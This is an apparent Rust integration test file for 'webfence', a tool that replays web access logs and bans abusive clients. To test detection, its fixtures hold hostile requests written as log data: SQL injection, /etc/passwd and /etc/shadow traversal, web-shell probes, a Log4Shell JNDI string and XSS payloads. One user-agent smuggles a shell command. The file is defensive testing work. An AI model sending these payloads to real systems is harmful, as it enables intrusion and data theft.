//! `webfence replay`, `check` and `rules`, as a user runs them: what the
//! default rules catch and what they leave alone, each rule kind, the JSON
//! contract, `--explain`, and configuration errors.

mod common;

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use common::{webfence, write};
use serde_json::Value;

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0";
const BASE: i64 = 1_714_557_600; // 2024-05-01T10:00:00Z

/// Builds a combined log from (seconds after BASE, ip, request, status, agent).
#[derive(Default)]
struct Log {
    lines: Vec<(i64, String)>,
}

impl Log {
    fn add(&mut self, at: f64, ip: &str, request: &str, status: u16, agent: &str) -> &mut Self {
        let t = jiff::Timestamp::from_second(BASE + at as i64).unwrap();
        let time = t.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string();
        let line = format!(r#"{ip} - - [{time}] "{request}" {status} 512 "-" "{agent}""#);
        self.lines.push(((at * 1000.0) as i64, line));
        self
    }

    fn add_host(&mut self, at: f64, host: &str, ip: &str, request: &str) -> &mut Self {
        let t = jiff::Timestamp::from_second(BASE + at as i64).unwrap();
        let time = t.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string();
        let line = format!(r#"{host}:80 {ip} - - [{time}] "{request}" 200 512 "-" "{UA}""#);
        self.lines.push(((at * 1000.0) as i64, line));
        self
    }

    fn write(&mut self, dir: &Path, name: &str) -> PathBuf {
        self.lines.sort_by_key(|(t, _)| *t);
        let mut text = String::new();
        for (_, l) in &self.lines {
            let _ = writeln!(text, "{l}");
        }
        write(dir, name, &text)
    }
}

/// Runs `replay --json` and returns the decisions.
fn decisions(args: &[&str]) -> Vec<Value> {
    let out = webfence()
        .arg("replay")
        .args(args)
        .arg("--json")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "replay failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect()
}

fn rules_of(d: &[Value]) -> Vec<String> {
    d.iter()
        .map(|x| x["rule"].as_str().unwrap().to_string())
        .collect()
}

fn no_local(dir: &Path) -> PathBuf {
    // Test logs use documentation addresses; loopback stays allowlisted by
    // default, which a test below checks.
    write(dir, "base.toml", "")
}

#[test]
fn a_flood_from_one_address_is_banned_with_its_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..300 {
        log.add(
            i as f64 * 0.02,
            "203.0.113.7",
            &format!("GET /search?q={i} HTTP/1.1"),
            200,
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    assert_eq!(d.len(), 1, "{d:?}");
    let d = &d[0];
    assert_eq!(d["ip"], "203.0.113.7");
    assert_eq!(d["rule"], "flood-ip");
    assert_eq!(d["action"], "ban");
    assert_eq!(d["duration_s"], 3600);
    assert_eq!(d["at"], "2024-05-01T10:00:02Z");
    let e = &d["evidence"];
    assert_eq!(e["count"], 121);
    assert_eq!(e["window_s"], 10);
    assert_eq!(e["threshold"], 120);
    assert_eq!(e["first_line"], 1);
    assert_eq!(e["last_line"], 121);
    let samples = e["samples"].as_array().unwrap();
    assert!(!samples.is_empty() && samples.len() <= 3);
    assert!(
        samples
            .last()
            .unwrap()
            .as_str()
            .unwrap()
            .contains("GET /search?q=120 ")
    );
    assert!(
        d["reason"]
            .as_str()
            .unwrap()
            .contains("121 requests in 10s (limit 120)")
    );
}

#[test]
fn identical_requests_are_exact_at_the_threshold() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    // 45 identical requests in 10 s pass; the 46th (a different client
    // sends 46) triggers.
    for i in 0..45 {
        log.add(
            i as f64 * 0.2,
            "198.51.100.1",
            "GET /cart HTTP/1.1",
            200,
            UA,
        );
    }
    for i in 0..46 {
        log.add(
            i as f64 * 0.2,
            "198.51.100.2",
            "GET /cart HTTP/1.1",
            200,
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    assert_eq!(d.len(), 1, "{d:?}");
    assert_eq!(d[0]["ip"], "198.51.100.2");
    assert_eq!(d[0]["rule"], "identical-requests");
    assert!(
        d[0]["reason"]
            .as_str()
            .unwrap()
            .contains("for target /cart"),
        "{}",
        d[0]["reason"]
    );
}

#[test]
fn a_distributed_flood_from_one_slash16_bans_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..150 {
        let ip = format!("10.20.{}.{}", i / 200, i % 200 + 1);
        log.add(i as f64 * 0.3, &ip, "GET /search HTTP/1.1", 200, UA);
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    assert_eq!(rules_of(&d), vec!["distributed-flood"], "{d:?}");
    assert_eq!(d[0]["cidr"], "10.20.0.0/16");
    assert!(d[0].get("ip").is_none());
    assert_eq!(d[0]["evidence"]["count"], 101);
    assert_eq!(d[0]["duration_s"], 600);
}

#[test]
fn scanners_attack_tools_torrents_and_injections_are_caught() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    let cases: [(&str, &[&str], &str); 9] = [
        (
            "198.18.0.1",
            &["GET /.env HTTP/1.1", "GET /.git/config HTTP/1.1"],
            UA,
        ),
        (
            "198.18.0.2",
            &["GET /wp-login.php HTTP/1.1", "POST /xmlrpc.php HTTP/1.1"],
            UA,
        ),
        (
            "198.18.0.3",
            &["GET /phpmyadmin/index.php HTTP/1.1", "GET /pma/ HTTP/1.1"],
            UA,
        ),
        (
            "198.18.0.4",
            &["GET / HTTP/1.1"],
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ),
        (
            "198.18.0.5",
            &["GET / HTTP/1.1"],
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
        ),
        (
            "198.18.0.6",
            &["GET /announce?info_hash=%12%34&peer_id=ABC HTTP/1.1"],
            "uTorrent/3.5",
        ),
        (
            "198.18.0.7",
            &[
                "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1",
                "GET /item?id=1%20AND%20sleep(5) HTTP/1.1",
            ],
            UA,
        ),
        (
            "198.18.0.8",
            &[
                "GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1",
                "GET /download?file=....//....//etc/shadow HTTP/1.1",
            ],
            UA,
        ),
        (
            "198.18.0.9",
            &[
                "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
                "GET /shell.php?cmd=id HTTP/1.1",
            ],
            "masscan/1.3",
        ),
    ];
    for (n, (ip, reqs, ua)) in cases.iter().enumerate() {
        for (k, r) in reqs.iter().enumerate() {
            log.add((n * 20 + k * 5) as f64, ip, r, 404, ua);
        }
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    let banned: Vec<&str> = d.iter().map(|x| x["ip"].as_str().unwrap()).collect();
    for (ip, _, _) in &cases {
        assert!(banned.contains(ip), "{ip} not banned: {d:#?}");
    }
    assert!(d.iter().all(|x| x["rule"] == "score:default"));
    let sqli = d.iter().find(|x| x["ip"] == "198.18.0.7").unwrap();
    assert!(
        sqli["reason"]
            .as_str()
            .unwrap()
            .contains("sql-injection +10"),
        "{sqli}"
    );
}

#[test]
fn the_default_rules_leave_ordinary_traffic_alone() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    let statics: Vec<String> = (0..40)
        .map(|i| format!("GET /assets/app{i}.js HTTP/1.1"))
        .collect();
    // A busy office behind one NAT address: 50 people, each a page view every
    // 15-25 s for 15 minutes, each page pulling 40 static files at once,
    // some from a cold cache.
    for person in 0..50 {
        let mut t = person as f64 * 0.37;
        let mut n = 0;
        while t < 900.0 {
            log.add(
                t,
                "198.51.100.50",
                &format!("GET /article/{person}/{n} HTTP/1.1"),
                200,
                UA,
            );
            if n % 4 == 0 {
                for s in &statics {
                    log.add(t + 0.2, "198.51.100.50", s, 200, UA);
                }
            }
            t += 15.0 + (person % 10) as f64;
            n += 1;
        }
    }
    // A crawler: 2 pages a second for 15 minutes, a few stale links.
    for i in 0..1800 {
        let (path, status) = if i % 25 == 0 {
            (format!("/old/{i}"), 404)
        } else {
            (format!("/page/{i}"), 200)
        };
        log.add(
            i as f64 * 0.5,
            "66.249.66.1",
            &format!("GET {path} HTTP/1.1"),
            status,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        );
    }
    // A user reloading a page a few times.
    for i in 0..6 {
        log.add(
            100.0 + i as f64,
            "203.0.113.200",
            "GET /checkout HTTP/1.1",
            200,
            UA,
        );
    }
    // A search that mentions SQL words in plain language.
    log.add(
        200.0,
        "203.0.113.201",
        "GET /search?q=select+the+union+of+sets HTTP/1.1",
        200,
        UA,
    );
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    assert!(d.is_empty(), "false positives: {d:#?}");
}

#[test]
fn unexpected_hosts_are_caught_once_sites_are_configured() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..3 {
        log.add_host(
            i as f64,
            "graph.facebook.com",
            "203.0.113.30",
            "GET /v2.0/me HTTP/1.1",
        );
        log.add_host(
            i as f64,
            "www.example.com",
            "203.0.113.31",
            "GET / HTTP/1.1",
        );
        log.add_host(i as f64, "example.com", "203.0.113.32", "GET / HTTP/1.1");
    }
    let p = log.write(dir.path(), "access.log");
    let cfg = write(
        dir.path(),
        "sites.toml",
        "[sites]\nnames = [\"example.com\", \"*.example.com\"]\n",
    );
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert_eq!(d[0]["ip"], "203.0.113.30");
    // Without [sites] the rule is inactive.
    assert!(
        decisions(&[
            p.to_str().unwrap(),
            "-c",
            no_local(dir.path()).to_str().unwrap()
        ])
        .is_empty()
    );
}

#[test]
fn repeat_offenders_get_longer_bans() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    // Three bursts five hours apart: each outlives the previous ban.
    for burst in 0..3 {
        for i in 0..130 {
            log.add(
                burst as f64 * 18_000.0 + i as f64 * 0.05,
                "203.0.113.9",
                &format!("GET /p{i} HTTP/1.1"),
                200,
                UA,
            );
        }
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap()]);
    let durations: Vec<i64> = d
        .iter()
        .map(|x| x["duration_s"].as_i64().unwrap())
        .collect();
    assert_eq!(durations, vec![3600, 7200, 14400], "{d:#?}");
    assert_eq!(d[2]["repeat"], 2);
    // Capped by [escalation] max, and forgotten after `remember`.
    let cfg = write(
        dir.path(),
        "esc.toml",
        "[escalation]\nfactor = 3\nmax = \"2h\"\n",
    );
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    let durations: Vec<i64> = d
        .iter()
        .map(|x| x["duration_s"].as_i64().unwrap())
        .collect();
    assert_eq!(durations, vec![3600, 7200, 7200]);
    let cfg = write(
        dir.path(),
        "forget.toml",
        "[escalation]\nremember = \"1h\"\n",
    );
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    let durations: Vec<i64> = d
        .iter()
        .map(|x| x["duration_s"].as_i64().unwrap())
        .collect();
    assert_eq!(durations, vec![3600, 3600, 3600]);
}

#[test]
fn requests_during_a_ban_are_not_decided_again() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..1000 {
        log.add(
            i as f64 * 0.01,
            "203.0.113.10",
            &format!("GET /x{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let out = webfence()
        .args(["replay", p.to_str().unwrap(), "--color", "never"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(text.matches("203.0.113.10").count(), 1, "{text}");
    assert!(
        text.contains("879 requests would have been blocked"),
        "{text}"
    );
}

#[test]
fn scores_decay_over_time_even_for_a_busy_client() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(
        dir.path(),
        "score.toml",
        "default_rules = false\n[scores.spam]\nthreshold = 15\ndecay = \"3/1d\"\nduration = \"1h\"\n[rules.comment-spam]\nkind = \"match\"\nmatch.path.prefix = [\"/comment\"]\nmatch.method.exact = [\"POST\"]\nscore = 10\nscore_name = \"spam\"\n",
    );
    let mut log = Log::default();
    // Client A: two spam posts two days apart, browsing every minute in
    // between: 10 decays to 4, +10 = 14, not above 15.
    log.add(0.0, "203.0.113.20", "POST /comment HTTP/1.1", 200, UA);
    for m in 1..(2 * 24 * 60) {
        log.add(
            m as f64 * 60.0,
            "203.0.113.20",
            "GET /read HTTP/1.1",
            200,
            UA,
        );
    }
    log.add(
        2.0 * 86_400.0 + 1.0,
        "203.0.113.20",
        "POST /comment HTTP/1.1",
        200,
        UA,
    );
    // Client B: two posts an hour apart: 10 + 9.875 > 15.
    log.add(0.0, "203.0.113.21", "POST /comment HTTP/1.1", 200, UA);
    log.add(3600.0, "203.0.113.21", "POST /comment HTTP/1.1", 200, UA);
    // A GET to the same path does not score.
    log.add(10.0, "203.0.113.22", "GET /comment HTTP/1.1", 200, UA);
    log.add(11.0, "203.0.113.22", "GET /comment HTTP/1.1", 200, UA);
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    assert_eq!(d.len(), 1, "{d:#?}");
    assert_eq!(d[0]["ip"], "203.0.113.21");
    assert_eq!(d[0]["rule"], "score:spam");
    assert_eq!(d[0]["evidence"]["threshold"], 15);
}

#[test]
fn rate_and_distinct_rules_with_keys_filters_and_log_actions() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(
        dir.path(),
        "rules.toml",
        r#"default_rules = false
[rules.login-posts]
kind = "rate"
key = "ip"
limit = 5
window = "1m"
match.method.exact = ["POST"]
match.path.exact = ["/login"]
action = "log"

[rules.agent-flood]
kind = "rate"
key = "user_agent"
limit = 10
window = "10s"
duration = "5m"

[rules.many-agents]
kind = "distinct"
key = "ip"
distinct = "user_agent"
limit = 3
window = "1m"
unless.user_agent.contains = ["Googlebot"]
"#,
    );
    let mut log = Log::default();
    // 8 login posts in a minute: one log decision, not one per request.
    for i in 0..8 {
        log.add(i as f64, "198.51.100.60", "POST /login HTTP/1.1", 200, UA);
    }
    // One agent string from many addresses: each sender over the limit is banned.
    for i in 0..12 {
        log.add(
            100.0 + i as f64 * 0.1,
            &format!("198.51.100.{}", 100 + i),
            "GET / HTTP/1.1",
            200,
            "EvilBot/1.0",
        );
    }
    // One address rotating user agents.
    for i in 0..4 {
        log.add(
            200.0 + i as f64,
            "198.51.100.70",
            "GET / HTTP/1.1",
            200,
            &format!("Agent{i}"),
        );
    }
    for i in 0..4 {
        log.add(
            300.0 + i as f64,
            "198.51.100.71",
            "GET / HTTP/1.1",
            200,
            &format!("Googlebot{i}"),
        );
    }
    let p = log.write(dir.path(), "access.log");
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    let summary: Vec<(String, String, String)> = d
        .iter()
        .map(|x| {
            (
                x["rule"].as_str().unwrap().into(),
                x["ip"].as_str().unwrap().into(),
                x["action"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        vec![
            ("login-posts".into(), "198.51.100.60".into(), "log".into()),
            ("agent-flood".into(), "198.51.100.110".into(), "ban".into()),
            ("agent-flood".into(), "198.51.100.111".into(), "ban".into()),
            ("many-agents".into(), "198.51.100.70".into(), "ban".into()),
        ],
        "{d:#?}"
    );
    assert!(d[0]["duration_s"].is_null());
    assert_eq!(d[1]["duration_s"], 300);
    assert!(
        d[3]["reason"]
            .as_str()
            .unwrap()
            .contains("4 distinct user agents in 1m (limit 3)"),
        "{}",
        d[3]["reason"]
    );
}

#[test]
fn allowlisted_clients_are_never_decided_against() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..300 {
        log.add(
            i as f64 * 0.01,
            "127.0.0.1",
            &format!("GET /a{i} HTTP/1.1"),
            200,
            UA,
        );
        log.add(
            i as f64 * 0.01,
            "198.18.0.99",
            &format!("GET /b{i} HTTP/1.1"),
            200,
            UA,
        );
        log.add(
            i as f64 * 0.01,
            "198.18.0.200",
            &format!("GET /c{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let cfg = write(
        dir.path(),
        "allow.toml",
        "[allowlist]\naddresses = [\"198.18.0.0/25\"]\n",
    );
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    let ips: Vec<&str> = d.iter().map(|x| x["ip"].as_str().unwrap()).collect();
    assert_eq!(ips, vec!["198.18.0.200"]);
    // Loopback is allowlisted by default, and only by default.
    let cfg = write(dir.path(), "nolocal.toml", "[allowlist]\nlocal = false\n");
    let d = decisions(&[p.to_str().unwrap(), "-c", cfg.to_str().unwrap()]);
    assert!(d.iter().any(|x| x["ip"] == "127.0.0.1"), "{d:#?}");
}

#[test]
fn explain_shows_why_a_client_was_banned_or_not() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    for i in 0..130 {
        log.add(
            i as f64 * 0.05,
            "203.0.113.40",
            &format!("GET /p{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    for i in 0..30 {
        log.add(
            i as f64 * 0.3,
            "203.0.113.41",
            &format!("GET /q{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    let p = log.write(dir.path(), "access.log");
    let run = |ip: &str| {
        let out = webfence()
            .args([
                "replay",
                p.to_str().unwrap(),
                "--explain",
                ip,
                "--color",
                "never",
            ])
            .output()
            .unwrap();
        assert!(out.status.success());
        String::from_utf8(out.stdout).unwrap()
    };
    let banned = run("203.0.113.40");
    assert!(banned.contains("peak 121 of 120"), "{banned}");
    assert!(banned.contains("fired at 2024-05-01T10:00:06Z"), "{banned}");
    assert!(
        banned.contains("verdict: 2024-05-01T10:00:06Z ban 1h by flood-ip"),
        "{banned}"
    );
    assert!(banned.contains("arrived while banned"), "{banned}");
    let spared = run("203.0.113.41");
    assert!(spared.contains("peak 30 of 120"), "{spared}");
    assert!(
        spared.contains("no rule decided against 203.0.113.41"),
        "{spared}"
    );
    let absent = run("2001:db8::1");
    assert!(absent.contains("no request from 2001:db8::1"), "{absent}");
    webfence()
        .args(["replay", p.to_str().unwrap(), "--explain", "not-an-ip"])
        .assert()
        .failure()
        .stderr(predicates::str::contains(
            "invalid --explain address 'not-an-ip'",
        ));
}

#[test]
fn rotated_files_replay_oldest_first() {
    let dir = tempfile::tempdir().unwrap();
    let mut old = Log::default();
    let mut new = Log::default();
    for i in 0..70 {
        old.add(
            i as f64 * 0.1,
            "203.0.113.50",
            &format!("GET /o{i} HTTP/1.1"),
            200,
            UA,
        );
        new.add(
            5.0 + i as f64 * 0.05,
            "203.0.113.50",
            &format!("GET /n{i} HTTP/1.1"),
            200,
            UA,
        );
    }
    // The newer file starts 5 s later; given first, it is still replayed second.
    let o = old.write(dir.path(), "access.log.1");
    let n = new.write(dir.path(), "access.log");
    let out = webfence()
        .args(["replay", n.to_str().unwrap(), o.to_str().unwrap(), "--json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("replaying oldest first"), "{stderr}");
    let d: Value = serde_json::from_str(
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(
        d["evidence"]["first_file"].as_str().unwrap(),
        o.to_str().unwrap()
    );
    assert_eq!(
        d["evidence"]["last_file"].as_str().unwrap(),
        n.to_str().unwrap()
    );
}

#[test]
fn a_tiny_memory_cap_evicts_idle_state_but_still_catches_the_flood() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(dir.path(), "cap.toml", "[state]\nmemory_cap = \"1MB\"\n");
    let mut text = String::new();
    // 40k distinct IPv6 clients of one request each, a flood in the middle.
    for i in 0..40_000u32 {
        let t = jiff::Timestamp::from_second(BASE + i64::from(i / 1000)).unwrap();
        let time = t.strftime("%d/%b/%Y:%H:%M:%S +0000");
        // Each in its own /48, so no distributed-flood fires.
        let _ = writeln!(
            text,
            r#"2001:{:x}:{:x}::1 - - [{time}] "GET /p HTTP/1.1" 200 1 "-" "{UA}""#,
            0x1000 + (i >> 16),
            i & 0xffff
        );
        if (20_000..20_200).contains(&i) {
            let _ = writeln!(
                text,
                r#"203.0.113.66 - - [{time}] "GET /f{i} HTTP/1.1" 200 1 "-" "{UA}""#
            );
        }
    }
    let p = write(dir.path(), "access.log", &text);
    let out = webfence()
        .args([
            "replay",
            p.to_str().unwrap(),
            "-c",
            cfg.to_str().unwrap(),
            "--color",
            "never",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("idle states evicted"), "{stdout}");
    assert!(stdout.contains("203.0.113.66"), "{stdout}");
    let peak: u64 = stdout
        .split("peak state ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .replace(',', "")
        .parse()
        .unwrap();
    assert!(peak <= 1100, "peak {peak} KiB over the 1 MiB cap");
}

#[test]
fn replay_reports_unparsable_input_and_bad_files() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "garbage.log", "not a log line\nnor this\n");
    webfence()
        .args(["replay", p.to_str().unwrap(), "--format", "combined"])
        .assert()
        .failure()
        .stderr(
            predicates::str::contains("no line of")
                .and(predicates::str::contains("garbage.log:1:")),
        );
    webfence()
        .args(["replay", "/nonexistent/access.log"])
        .assert()
        .failure()
        .stderr(predicates::str::contains("/nonexistent/access.log"));
}

use predicates::prelude::PredicateBooleanExt;

#[test]
fn check_reports_every_error_with_its_location() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(
        dir.path(),
        "bad.toml",
        "[rules.flood]\nkind = \"rate\"\nlimit = 45\nwindow = \"10 parsecs\"\nthreshhold = 3\n\n[rules.agents]\nkind = \"match\"\nmatch.user_agent.regex = [\"ok\", \"(unclosed\"]\n\n[allowlist]\naddresses = [\"10.0.0.300\"]\n",
    );
    let out = webfence()
        .args(["check", "-c", cfg.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8(out.stderr).unwrap();
    let name = cfg.to_str().unwrap();
    assert!(
        err.contains(&format!("{name}:5:1: unknown key 'threshhold'")),
        "{err}"
    );
    let cfg2 = write(
        dir.path(),
        "bad2.toml",
        "[rules.flood]\nkind = \"rate\"\nlimit = 45\nwindow = \"10 parsecs\"\n\n[rules.agents]\nkind = \"match\"\nmatch.user_agent.regex = [\"ok\", \"(unclosed\"]\n\n[allowlist]\naddresses = [\"10.0.0.300\"]\n",
    );
    let out = webfence()
        .args(["check", "-c", cfg2.to_str().unwrap()])
        .output()
        .unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    let name = cfg2.to_str().unwrap();
    assert!(
        err.contains(&format!(
            "{name}:4:10: window: invalid duration '10 parsecs'"
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "{name}:8:33: invalid regular expression \"(unclosed\""
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "{name}:11:14: invalid address or CIDR '10.0.0.300'"
        )),
        "{err}"
    );
    assert!(err.contains("3 errors found"), "{err}");
    webfence()
        .args(["check", "-c", "/nonexistent/webfence.toml"])
        .assert()
        .failure()
        .stderr(
            predicates::str::contains("/nonexistent/webfence.toml")
                .and(predicates::str::contains("cannot read")),
        );
}

#[test]
fn the_shipped_example_config_is_valid_and_layers() {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/webfence.toml");
    webfence()
        .args(["check", "-c", example.to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicates::str::contains(": ok: "));
    let dir = tempfile::tempdir().unwrap();
    let extra = write(
        dir.path(),
        "local.toml",
        "[rules.flood-ip]\nenabled = false\n",
    );
    let out = webfence()
        .args([
            "rules",
            "--json",
            "-c",
            example.to_str().unwrap(),
            "-c",
            extra.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let names: Vec<&str> = doc["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert!(!names.contains(&"flood-ip"));
    assert!(names.contains(&"identical-requests"));
    assert_eq!(doc["files"].as_array().unwrap().len(), 2);
}

#[test]
fn rules_prints_the_builtin_ruleset_without_a_config() {
    webfence()
        .args(["rules", "--color", "never"])
        .env("HOME", "/nonexistent")
        .assert()
        .success()
        .stdout(
            predicates::str::contains("identical-requests")
                .and(predicates::str::contains(
                    "> 45 requests per ip+target in 10s",
                ))
                .and(predicates::str::contains("unexpected-host"))
                .and(predicates::str::contains(
                    "Escalation: each repeat ban ×2 up to 1w",
                )),
        );
    webfence()
        .args(["rules", "-c", "/nonexistent.toml"])
        .assert()
        .failure()
        .stderr(predicates::str::contains("invalid configuration"));
}

#[test]
fn a_hostile_log_line_cannot_break_the_output() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    log.add(
        0.0,
        "198.18.0.77",
        "GET /.env HTTP/1.1",
        404,
        "\\x1b[2J$(touch /tmp/pwned)`id`",
    );
    log.add(
        1.0,
        "198.18.0.77",
        "GET /.git/config HTTP/1.1",
        404,
        "\\x1b[2J",
    );
    let p = log.write(dir.path(), "access.log");
    let out = webfence()
        .args(["replay", p.to_str().unwrap(), "--color", "never"])
        .output()
        .unwrap();
    assert!(
        !out.stdout.contains(&0x1b),
        "raw escape reached the terminal"
    );
    let d = decisions(&[p.to_str().unwrap()]);
    assert_eq!(d.len(), 1);
}

/// Config errors speak TOML, not Rust, suggest the key a typo meant, and
/// never point at line 0 column 0.
#[test]
fn config_errors_speak_the_admins_language() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("w.toml");
    std::fs::write(
        &cfg,
        "[deamon]\nlogs = \"/x\"\n[daemon]\nlogs = \"/var/log/x\"\n[rules.a]\nkind = \"rate\"\nlimt = 3\n[rules.b]\nkind = \"rate\"\nlimit = \"ten\"\nwindow = \"1h30m\"\n",
    )
    .unwrap();
    let out = common::webfence()
        .args(["check", "-c"])
        .arg(&cfg)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    for want in [
        ":1:2: unknown key 'deamon' (did you mean 'daemon'?",
        ":4:8: invalid type: text \"/var/log/x\", expected a list like [\"/var/log/nginx/access.log\"]",
        ":7:1: unknown key 'limt' (did you mean 'limit'?)",
        ":10:9: invalid type: text \"ten\", expected a whole number",
    ] {
        assert!(err.contains(want), "missing {want:?} in:\n{err}");
    }
    assert!(!err.contains("i64") && !err.contains("sequence"), "{err}");
    let missing = dir.path().join("nope.toml");
    common::webfence()
        .args(["check", "-c"])
        .arg(&missing)
        .assert()
        .failure()
        .stderr(predicates::str::contains(format!(
            "{}: cannot read the configuration",
            missing.display()
        )))
        .stderr(predicates::str::contains(":0:0").not());
}

/// The longest line of a command's output, in characters, leaving out the
/// raw log excerpts of malformed-line samples (they are the log's, not a
/// layout).
fn widest(args: &[&str], columns: &str) -> usize {
    let out = webfence()
        .args(args)
        .args(["--color", "never"])
        .env("COLUMNS", columns)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.trim_start().starts_with("malformed "))
        .map(|l| l.chars().count())
        .max()
        .unwrap_or(0)
}

/// Regression: `rules` was about 220 columns wide, and `report`'s client
/// table and `replay`'s decisions wrapped on an 80-column terminal.
#[test]
fn views_fit_an_80_column_terminal_and_wide_lays_out_in_full() {
    let sample = common::sample();
    let sample = sample.to_str().unwrap();
    for args in [
        vec!["rules"],
        vec!["report", sample],
        vec!["replay", sample],
    ] {
        let w = widest(&args, "80");
        assert!(w <= 80, "{args:?}: a line of {w} characters at 80 columns");
    }
    let mut wide = vec!["rules", "--wide"];
    assert!(widest(&wide, "80") > 120, "--wide keeps the full table");
    wide = vec!["report", sample, "--wide"];
    assert!(widest(&wide, "80") > 80);
    // A narrow terminal keeps the clients' addresses whole.
    let out = webfence()
        .args(["report", sample, "--color", "never"])
        .env("COLUMNS", "80")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("2a02:90c3:6b10::7eff"));
}

/// The categories and request shapes added for detection depth: each is
/// caught by the rule named, and the normaliser sees through `//`, `..` and
/// double encoding.
#[test]
fn new_categories_and_shapes_are_caught() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Log::default();
    // (client, requests with status, agent, the rule that must be in the reason or be the rule)
    type Case<'a> = (&'a str, Vec<(&'a str, u16)>, &'a str, &'a str);
    let cases: Vec<Case> = vec![
        (
            "198.18.1.1",
            vec![(
                "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
                404,
            )],
            UA,
            "exploit-paths",
        ),
        (
            "198.18.1.2",
            vec![("GET /?x=${jndi:ldap://198.18.9.9/a} HTTP/1.1", 200)],
            UA,
            "exploit-requests",
        ),
        (
            "198.18.1.3",
            vec![("GET /uploads/alfa.php HTTP/1.1", 404)],
            UA,
            "web-shells",
        ),
        (
            "198.18.1.4",
            vec![
                ("GET /webmin/ HTTP/1.1", 404),
                ("GET /roundcube/ HTTP/1.1", 404),
            ],
            UA,
            "admin-panels",
        ),
        (
            "198.18.1.5",
            vec![
                (
                    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
                    200,
                ),
                ("GET /?q=%22%3E%3Csvg/onload=alert(1)%3E HTTP/1.1", 200),
            ],
            UA,
            "xss-probes",
        ),
        (
